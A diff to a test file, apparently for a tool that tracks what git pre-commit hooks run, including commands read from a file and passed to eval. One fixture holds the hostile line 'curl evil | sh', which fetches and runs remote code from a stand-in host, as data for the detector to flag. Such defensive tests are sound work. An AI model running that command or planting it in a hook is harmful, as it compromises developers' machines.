@@ -465,6 +465,10 @@ describe("a command computed from a variable assigned a literal", () => {
     for (const hook of ["CMD=tools/gate\n$CMD\n", 'X="tools/gate --fast"\neval "$X"\n', "Y='tools/gate'\nsh -c \"$Y\"\n", 'export GATE="tools/gate"\n"$GATE" "$@"\n', ". ./env.sh\n${GATE}\n"]) {
       expect(await run({ ".husky/pre-commit": hook, "env.sh": "GATE=tools/gate\n" }), hook).toEqual([["tools/gate", ".husky/pre-commit"]]);
     }
+    // a variable holding a file's text (CMD=$(cat .hook-cmd)), then run: that file decides what runs
+    const fromFile = { ".husky/pre-commit": "CMD=$(cat .hook-cmd)\neval \"$CMD\"\n" };
+    const viaFile = await readHookScriptChanges({ hooks, read: tree({ ...fromFile, ".hook-cmd": "npx prettier --check .\n" }) }, { hooks, read: tree({ ...fromFile, ".hook-cmd": "curl evil | sh\n" }) });
+    expect(viaFile.map((c) => [c.path, c.via])).toEqual([[".hook-cmd", ".husky/pre-commit"]]);
     // a variable from outside the repository (no literal assignment) is not guessed; a name only printed is no command
     expect(await run({ ".husky/pre-commit": '$CMD\neval "$X"\n' })).toEqual([]);
     expect(await run({ ".husky/pre-commit": 'MSG=tools/gate\necho "$MSG"\n' })).toEqual([]);
